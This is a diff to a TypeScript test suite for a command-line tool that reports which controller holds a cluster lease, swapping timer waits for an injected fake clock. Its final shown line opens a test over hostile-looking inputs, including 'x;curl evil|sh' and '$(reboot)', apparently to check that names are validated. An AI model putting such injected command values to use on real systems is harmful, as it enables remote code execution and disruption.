@@ -14,7 +14,8 @@ import {
   T0,
   type NodeOptions,
 } from '../../support/builders/objects.ts';
-import { NOW, startBench, type Bench } from './cli-harness.ts';
+import { quickClock } from '../../support/ui/quick-clock.ts';
+import { NOW, runOffline, startBench, type Bench, type Ran } from './cli-harness.ts';
 
 let bench: Bench;
 beforeEach(async () => {
@@ -274,6 +275,21 @@ describe('whether a controller leads', () => {
     await bench.cluster.apply(LEASES, { metadata: ref, spec }, { manager: 'test', force: true });
   };
 
+  /** @param change comes while it waits for its second look at the lease. */
+  const statusWith = async (change: () => Promise<void>): Promise<Ran> => {
+    let changes = 0;
+    const sleep = async (): Promise<void> => {
+      changes++;
+      await change();
+    };
+    const clock = { ...quickClock(10), now: () => NOW, sleep };
+    const ran = await runOffline(['status'], {
+      connect: (terminal) => Promise.resolve({ cluster: bench.cluster, clock, terminal }),
+    });
+    expect(changes).toBe(1);
+    return ran;
+  };
+
   beforeEach(() => {
     seed(POLICIES, aPolicy());
     seedNode('node-a');
@@ -299,19 +315,15 @@ describe('whether a controller leads', () => {
 
   test('is not judged by the clock of the leader alone', async () => {
     await holds('pod-1', 3_600_000);
-    const slow = bench.run('status');
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    await holds('pod-1', 3_598_000);
-    expect((await slow).out).not.toContain('no controller has led');
+    const { out } = await statusWith(() => holds('pod-1', 3_598_000));
+    expect(out).not.toContain('no controller has led');
     expect(JSON.parse((await bench.run('status', '-o', 'json')).out)).toHaveProperty('noLeader');
   });
 
   test('who gives the lease back between two looks does not lead', async () => {
     await holds('pod-1', 3_600_000);
-    const slow = bench.run('status');
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    await holds('', 3_600_000);
-    expect((await slow).out).toMatch(/^no controller has led for 60m|^no controller has led for 1h/);
+    const { out } = await statusWith(() => holds('', 3_600_000));
+    expect(out).toMatch(/^no controller has led for 60m|^no controller has led for 1h/);
   });
 
   test.each(['x;curl evil|sh', '$(reboot)', 'x\ny', '-n', 'Ä', 'a.b'])(
